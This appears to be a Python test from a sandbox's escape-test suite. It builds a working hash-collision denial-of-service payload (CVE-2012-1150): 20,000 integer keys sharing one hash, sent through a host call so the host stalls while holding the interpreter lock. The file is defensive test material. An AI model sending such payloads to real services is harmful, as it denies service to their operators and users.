"""Have the host make a dict of keys that all have one hash, with the interpreter's lock held meanwhile."""

import struct
import time

from tests.escape.technique import NO_WIRE, Alone, Technique, not_run

KEYS = 20_000  # of 360 KB; the time grows by their square


def outside_search(**_found):
    return None


def attack(world):
    modulus = (1 << 61) - 1  # of the hash of numbers
    form = world.pack("int")
    keys = b"".join(
        b"\x92" + form + b"\xc4\x0b" + (number * modulus).to_bytes(11, "big") + b"\x00" for number in range(1, KEYS + 1)
    )
    collide = b"\xdd" + struct.pack(">I", 2 * KEYS + 1) + world.pack("dict") + keys
    name = world.pack(["dict", "name"])[5:]  # without the list's own head
    arguments = b"\xc1\x93" + world.pack("list") + world.pack(["list"]) + b"\x93" + name + collide
    world.send(world.frame("host_call", id=1, name="search", arguments=arguments))
    time.sleep(3)


TECHNIQUE = Technique(
    source="CVE-2012-1150: hashes that can be guessed; those of numbers always can (sys.hash_info.modulus)",
    options={"functions": {"search": outside_search}},
    no_event="a malformed value is no denial: the cell is ended",
    must_end=("SandboxDied", "SandboxClosed"),
    sibling_s=1.0,
    stops=("wire",),
    control=Alone("what is measured is how long another sandbox waits; honest keys arrive (tests/unit/test_values.py)"),
    thread=not_run(NO_WIRE),
)
